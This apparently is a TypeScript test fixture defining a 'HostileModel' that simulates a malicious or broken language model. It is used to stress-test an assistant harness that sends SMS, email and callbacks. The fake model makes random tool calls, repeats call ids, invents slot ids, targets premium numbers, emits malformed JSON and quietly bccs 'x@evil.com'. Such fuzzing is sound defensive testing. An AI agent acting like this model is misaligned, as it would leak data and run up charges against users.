import type { Model, ModelEvent, ModelRequest } from '../../src/ports.ts';
import type { Random } from './random.ts';
import { botSays, destinations, links, other, own, pieces, premium } from './vocabulary.ts';

/** The first destinations of the vocabulary are such as a caller could really have agreed to. */
const plausible = 7;

export interface Told {
  /** What the model said in one answer, in its own words. */
  readonly said: (words: string, readsBack: string | null) => void;
  /** A message was asked for under this mark. */
  readonly called: (toolCallId: string, mark: string) => void;
}

/**
 * A model that means harm or has lost its mind: says things at random, calls tools at random and again with the same
 * id, ignores what they return, and writes into every argument what does not belong there.
 */
export class HostileModel implements Model {
  readonly #random: Random;
  readonly #told: Told;
  readonly #scope: string;
  /** Sends whatever it can to whom it may: how caps are reached. */
  readonly #spree: boolean;
  #calls = 0;
  #last: ModelEvent | null = null;
  /** Ids of slots and callbacks that tools gave. */
  #offered: readonly string[] = [];

  constructor(random: Random, scope: string, told: Told) {
    this.#random = random;
    this.#scope = scope;
    this.#told = told;
    this.#spree = random.chance(0.4);
  }

  async *stream(request: ModelRequest, signal: AbortSignal): AsyncIterable<ModelEvent> {
    for (const event of this.#answer(request)) {
      if (signal.aborted) return yield { type: 'end', reason: 'aborted' };
      yield event;
    }
    yield { type: 'end', reason: 'finished' };
  }

  async warm(): Promise<void> {}

  #answer({ toolChoice, history }: ModelRequest): readonly ModelEvent[] {
    const calls = toolChoice === 'auto' && this.#random.chance(this.#spree ? 0.75 : 0.55);
    if (!calls) return this.#speak();
    const events = this.#random.chance(0.3) ? this.#speak() : [];
    const count = this.#random.chance(0.2) ? 2 : 1;
    this.#offered = idsIn(history);
    return [...events, ...Array.from({ length: count }, () => this.#call())];
  }

  #speak(): readonly ModelEvent[] {
    const sayings = this.#random.chance(0.6) ? botSays.filter(([, destination]) => destination !== null) : botSays;
    const [words, readsBack] = this.#random.pick(sayings);
    this.#told.said(words, readsBack);
    return [{ type: 'text-delta', text: `${words} ` }];
  }

  #call(): ModelEvent {
    const random = this.#random;
    if (this.#last !== null && random.chance(0.15)) return this.#last;
    const id = `${this.#scope}-${++this.#calls}`;
    // No four digits in a row: a seed is not to look like a card.
    const mark = `m${this.#scope.replace(/\D/g, '').replace(/\d/g, '$&q')}x${this.#calls}m`;
    const [name, values] = this.#tool(mark);
    this.#told.called(id, mark);
    this.#last = {
      type: 'tool-call',
      id,
      name,
      argumentsJson: random.chance(0.03) ? '{"to":' : JSON.stringify(values),
    };
    return this.#last;
  }

  /** Half of the time one that could be rung, if it may. */
  #phone(to: string): string {
    return this.#random.chance(0.5) ? this.#random.pick([own, other, premium, '+18005551234']) : to;
  }

  /** Times are looked for until there are some. */
  #slots(phone: string, reason: string): readonly [string, unknown] {
    if (!this.#offered.some((id) => id.startsWith('slot_'))) return ['find_callback_slots', {}];
    return ['schedule_callback', { slot: this.#pick('slot_'), phone, reason }];
  }

  /** One that a tool gave, where any did; now and then one that is made up. */
  #pick(prefix: string): string {
    const known = this.#offered.filter((id) => id.startsWith(prefix));
    return known.length === 0 || this.#random.chance(0.1) ? `${prefix}1` : this.#random.pick(known);
  }

  #tool(mark: string): readonly [string, unknown] {
    const random = this.#random;
    const words = (): string =>
      random.chance(this.#spree ? 0.9 : 0.5)
        ? `${mark} We open at eight.`
        : `${mark} ${random.pick(pieces)} ${random.pick(pieces)}`;
    const to = random.pick(random.chance(this.#spree ? 0.95 : 0.6) ? destinations.slice(0, plausible) : destinations);
    switch (random.below(14)) {
      case 0:
      case 1:
        return ['send_sms', { to, message: words() }];
      case 2:
      case 3:
        return ['send_email', { to, subject: random.chance(0.5) ? mark : words(), body: words() }];
      case 4:
        return ['send_sms_link', { link: random.pick(links), to: random.chance(0.5) ? null : to }];
      case 5:
        return ['send_email_link', { link: random.pick(links), to: random.chance(0.5) ? null : to }];
      case 6:
        return ['mail_given', { to, what: words() }];
      case 7:
        return ['text_caller', { what: words() }];
      case 8:
        return ['alert_team', { what: words(), to, cc: to, bcc: 'x@evil.com' }];
      case 9:
        return ['text_team', { what: words(), to }];
      case 10:
        return ['request_callback', { phone: this.#phone(to), reason: words() }];
      case 11:
        return this.#slots(this.#phone(to), words());
      case 12:
        return [
          'change_callback',
          { callback: this.#pick('cb_'), slot: random.chance(0.4) ? null : this.#pick('slot_') },
        ];
      default:
        return [
          random.pick(['confirm_destination', 'switch_language', 'http_request', 'send_fax']),
          { to, confirmed: true },
        ];
    }
  }
}

function idsIn(history: ModelRequest['history']): readonly string[] {
  const results = history.flatMap((item) => (item.role === 'tool-result' ? [item.resultJson] : []));
  return results.join(' ').match(/\b(?:slot_[0-9a-z]+|cb_\w+)/g) ?? [];
}
